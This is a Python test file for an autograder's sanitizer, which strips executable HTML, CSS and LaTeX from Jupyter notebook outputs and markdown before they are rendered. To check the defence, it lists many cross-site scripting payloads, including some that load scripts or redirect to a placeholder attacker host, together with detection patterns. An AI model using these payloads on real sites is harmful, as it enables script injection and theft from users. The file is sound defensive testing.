"""Outputs and prose are stored without anything that a browser would execute, and stay readable."""

from __future__ import annotations

import base64
import functools
import re
from typing import Any

import nbformat
import pytest
from nbconvert import HTMLExporter

from autograder.grading.sanitize import harmless_outputs, harmless_prose

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\nrest").decode()

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<form action=//evil.example><input type=submit></form>",
    "<button onclick=alert(1)>x</button>",
    "<textarea></textarea><script>alert(1)</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<style>body{display:none}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='position:fixed;top:0;left:0'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<script>--><img src=x onerror=alert(1)><!--</script>-->",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "$\\href{javascript:alert(1)}{x}$",
    "\\[\\href {javascript:alert(1)}{x}\\]",
    "$\\require{html}\\cssId{score}{x}$",
    "$\\class{btn}{x}\\style{color:red}{y}$",
    "</div></div></body><script>alert(1)</script>",
]
#: what must not be read from a page as markup
ACTIVE = ("<script", "<svg", "<iframe", "<object", "<embed", "<form", "<input", "<button", "<base", "<meta", "<link",
          "<template", "<body", "<video", "<math", "\\href{j", "\\href {j", "\\require", "\\cssid",
          "\\class", "\\style", "@import", "url(", "position:", "expression(", "display:none")  # fmt: skip


def _shown(kind: str, content: Any) -> dict[str, Any]:
    (output,) = harmless_outputs(({"output_type": "display_data", "data": {kind: content}, "metadata": {}},))
    return dict(output["data"])


def _prose(source: str, cell_type: str = "markdown", **keys: Any) -> Any:
    make = nbformat.v4.new_markdown_cell if cell_type == "markdown" else nbformat.v4.new_raw_cell
    cell = make(source, **keys)
    harmless_prose(cell)
    return cell


def _page(*cells: Any) -> str:
    """Return the body of the page that nbconvert makes of cells, as nbgrader's formgrader does."""
    notebook = nbformat.v4.new_notebook(cells=list(cells))
    return str(_exporter().from_notebook_node(notebook)[0])


@functools.cache
def _exporter() -> HTMLExporter:
    return HTMLExporter(template_name="basic")


def _attributes_and_tags(page: str) -> tuple[set[str], set[str], list[str]]:
    from html.parser import HTMLParser

    class Reader(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.tags: set[str] = set()
            self.names: set[str] = set()
            self.links: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.tags.add(tag)
            self.names |= {name for name, _ in attrs}
            self.links += [value or "" for name, value in attrs if name in ("href", "src", "action", "data")]

    reader = Reader()
    reader.feed(page)
    return reader.tags, reader.names, reader.links


def _is_inert(page: str) -> None:
    tags, names, links = _attributes_and_tags(page)
    assert not tags & {"script", "iframe", "object", "embed", "form", "input", "button", "base", "meta", "link", "svg",
                       "template", "body", "video", "math", "textarea"}  # fmt: skip
    assert not [name for name in names if name.startswith("on") or name in ("srcdoc", "formaction")]
    for link in links:
        squeezed = "".join(link.split()).lower()
        assert not squeezed.startswith(("javascript:", "vbscript:", "data:text", "data:application", "//")), link


@pytest.mark.parametrize("content", HOSTILE)
def test_html_outputs_hold_nothing_active(content: str) -> None:
    cleaned = _shown("text/html", f"<b>kept</b>{content}")["text/html"]
    assert "<b>kept</b>" in cleaned
    assert not [word for word in ACTIVE if word in cleaned.lower()]
    _is_inert(cleaned)


@pytest.mark.parametrize("content", HOSTILE)
@pytest.mark.parametrize("cell_type", ["markdown", "raw"])
def test_prose_holds_nothing_active_as_nbconvert_shows_it(content: str, cell_type: str) -> None:
    page = _page(_prose(f"before\n\n{content}\n\nafter", cell_type))
    assert "before" in page
    assert "after" in page
    _is_inert(page)
    assert not [word for word in ACTIVE if word.startswith("\\") and word in page.lower()]


@pytest.mark.parametrize("kind", ["text/markdown", "text/latex"])
@pytest.mark.parametrize("content", HOSTILE)
def test_markdown_and_latex_outputs_hold_nothing_active(kind: str, content: str) -> None:
    (output,) = harmless_outputs(({"output_type": "display_data", "data": {kind: content}, "metadata": {}},))
    page = _page(nbformat.v4.new_code_cell("x", outputs=[nbformat.from_dict(output)]))
    _is_inert(page)
    assert not [word for word in ACTIVE if word.startswith("\\") and word in page.lower()]


@pytest.mark.parametrize(
    "link",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](java&#x73;cript&colon;alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](data:text/html,<script>alert(1)</script>)",
    ],
)
def test_markdown_links_run_nothing(link: str) -> None:
    _is_inert(_page(_prose(link)))


@pytest.mark.parametrize(
    "kind",
    [
        "application/javascript",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.plotly.v1+json",
        "application/x-custom",
        "text/x-anything",
    ],
)
def test_other_kinds_of_output_are_dropped(kind: str) -> None:
    assert kind not in _shown(kind, "alert(1)")


def test_a_picture_that_is_no_picture_is_dropped() -> None:
    assert "image/png" not in _shown("image/png", '"><script>alert(1)</script>')
    assert "image/png" not in _shown("image/png", base64.b64encode(b"<svg onload=alert(1)>").decode())


def test_metadata_of_outputs_keeps_sizes_and_nothing_else() -> None:
    metadata = {"image/png": {"width": 20, "height": "1' onload='alert(1)"}, "isolated": True, "text/html": {"a": 1}}
    (output,) = harmless_outputs(({"output_type": "display_data", "data": {"image/png": PNG}, "metadata": metadata},))
    assert output["metadata"] == {"image/png": {"width": 20}}


# --- what stays -------------------------------------------------------------------------------------------------------


def test_pictures_text_and_json_stay() -> None:
    assert _shown("image/png", PNG) == {"image/png": PNG}
    assert _shown("text/plain", "<b>") == {"text/plain": "<b>"}
    assert _shown("application/json", {"a": [1]}) == {"application/json": {"a": [1]}}


def test_an_svg_is_shown_as_a_picture() -> None:
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><circle r='1'/></svg>"
    cleaned = _shown("image/svg+xml", svg)["text/html"]
    assert base64.b64decode(cleaned.partition("base64,")[2].partition('"')[0]).decode() == svg
    assert _attributes_and_tags(cleaned)[0] == {"img"}


PANDAS = """<div>
<style scoped>
    .dataframe tbody tr th:only-of-type {
        vertical-align: middle;
    }
    .dataframe thead th {
        text-align: right;
    }
</style>
<table border="1" class="dataframe">
  <thead><tr style="text-align: right;"><th></th><th>a &lt; b</th></tr></thead>
  <tbody><tr><th>0</th><td>1.5</td></tr></tbody>
</table>
<p>1 rows × 1 columns</p>
</div>"""
STYLER = """<style type="text/css">
#T_1a2b_row0_col0 {background-color: #ff0000; color: white;}
#T_1a2b_row0_col1 {width: 10em; background: linear-gradient(90deg, #5fba7d 50.0%, transparent 50.0%);}
</style>
<table id="T_1a2b"><tr><td id="T_1a2b_row0_col0" class="data row0 col0">1</td></tr></table>"""


def test_a_pandas_table_stays_a_table_with_its_style() -> None:
    cleaned = _shown("text/html", PANDAS)["text/html"]
    assert '<table border="1" class="dataframe">' in cleaned
    assert "<th>a &lt; b</th>" in cleaned
    assert ".dataframe thead th{text-align:right}" in cleaned
    assert 'style="text-align:right"' in cleaned
    assert "1 rows × 1 columns" in cleaned


def test_a_styled_pandas_table_keeps_its_colours() -> None:
    cleaned = _shown("text/html", STYLER)["text/html"]
    assert "#T_1a2b_row0_col0{background-color:#ff0000;color:white}" in cleaned
    assert "linear-gradient(90deg, #5fba7d 50.0%, transparent 50.0%)" in cleaned
    assert '<td id="T_1a2b_row0_col0" class="data row0 col0">1</td>' in cleaned


def test_styles_reach_nothing_but_the_table() -> None:
    css = "body, .dataframe{color:red} #T_1{position:fixed;color:red} .score{color:red} #T_1 , #x{color:red}"
    assert _shown("text/html", f"<style>{css}</style>x")["text/html"] == "<style>#T_1{color:red}</style>x"


@pytest.mark.parametrize(
    "content",
    [
        "<b>bold</b> and <i>it</i>, H<sub>2</sub>O",
        '<span style="color:red">red</span>',
        "<h3>title</h3><ul><li>one</li></ul>",
        '<img src="plots/a.png">',
        f'<img src="data:image/png;base64,{PNG}">',
        "$\\frac{a}{b}$ and $\\href{https://example.org}{x}$",
    ],
)
def test_harmless_html_stays_as_it_is(content: str) -> None:
    assert _shown("text/html", content)["text/html"] == content


@pytest.mark.parametrize(
    "address", ["https://example.org/a.png", "//example.org/a", "/logout", "../../logout", "%2E%2e/x"]
)
def test_no_picture_is_asked_for_from_elsewhere(address: str) -> None:
    assert _shown("text/html", f'<img src="{address}" alt="a">')["text/html"] == '<img alt="a">'
    for source in (f"![a]({address})", f"![a]( <{address}> )", f"![a][1]\n\n[1]: {address}", f'<img src="{address}">'):
        assert address not in re.findall(r'<img[^>]*src="([^"]*)"', _page(_prose(source)))
    assert "![a](plots/a.png)" in _prose("![a](plots/a.png)").source


def test_classes_and_ids_of_the_page_around_are_taken_away() -> None:
    cleaned = _shown("text/html", '<p class="comment data" id="score">x</p>')["text/html"]
    assert cleaned == '<p class="data">x</p>'


@pytest.mark.parametrize(
    "source",
    [
        "# Title\n\nText with `code`, *stress*, a < b, and a list\n\n* one\n* two",
        "$$\\int_0^1 x < 1 \\, dx$$ and $\\alpha \\text{ if } x < 0$",
        '<b>bold</b><br/>next <div align="center">middle</div>',
        "[a link](https://example.org) and <https://example.org>",
        '<a href="https://example.org">x</a> <img src="figure.png" width="300">',
        "| a | b |\n|---|---|\n| 1 | 2 |",
        f"![inline](data:image/png;base64,{PNG})",
        '<span style="color:red; font-weight: bold">red</span>',
    ],
)
def test_harmless_markdown_stays_as_it_is(source: str) -> None:
    assert _prose(source).source == source


def test_text_that_looks_like_a_tag_is_read_as_it_was_written() -> None:
    assert _prose("if x<y and `<script>`").source.replace("\u200b", "") == "if x<y and `<script>`"


def test_attached_pictures_stay_and_others_go() -> None:
    attachments = {
        "a.png": {"image/png": PNG},
        "b": {"text/html": "<script>"},
        "c": {"image/svg+xml": "<svg onload=x>"},
    }
    cell = _prose("![a](attachment:a.png) ![b](attachment:b) ![c](attachment:missing.png)", attachments=attachments)
    assert cell.attachments == {"a.png": {"image/png": PNG}}
    # nbconvert fails on an attachment that is not there
    assert f"data:image/png;base64,{PNG}" in _page(cell)


@pytest.mark.parametrize(
    "content",
    [
        *("<div>" * 100_000, "<style>" * 50_000, "<" * 200_000, "&#0" * 100_000),
        "<p>" + "".join(f"<font color={n}>" for n in range(900)) + "<p>x" * 100_000,
        "<style>" + "a{}" * 1_000_000 + "</style>",
        f"<style>.dataframe {'(' * 600}{')' * 600}{{color:red}}</style>",
        f"<style>.dataframe {{color:{'[' * 900}{']' * 900}}}</style>",
    ],
)
def test_a_flood_of_tags_takes_no_time(content: str) -> None:
    _shown("text/html", content)
    _prose(content)


@pytest.mark.parametrize(
    "style",
    ["margin-top:-500px", "margin-top: - 5em", "margin-top:-.5em", "margin-left:1px;margin-top:calc(0px - 9em)"],
)
def test_nothing_is_laid_over_what_stands_above(style: str) -> None:
    """A picture of a verdict, moved up, would cover the real one."""
    shown = f'<img src="data:image/png;base64,{PNG}" style="{style}">'
    (output,) = harmless_outputs([{"output_type": "display_data", "data": {"text/html": shown}, "metadata": {}}])
    assert "margin-top" not in output["data"]["text/html"]
    cell = nbformat.v4.new_markdown_cell(f'<p style="{style}">over</p>')
    harmless_prose(cell)
    assert "<p " not in cell.source


def test_the_boxes_of_courses_stay_boxes() -> None:
    cell = nbformat.v4.new_markdown_cell('<div class="alert alert-info"><b>Task:</b> do it</div>')
    harmless_prose(cell)
    assert cell.source == '<div class="alert alert-info"><b>Task:</b> do it</div>'
    cell = nbformat.v4.new_markdown_cell('<div class="navbar">x</div>')
    harmless_prose(cell)
    assert '<div class="navbar">' not in cell.source
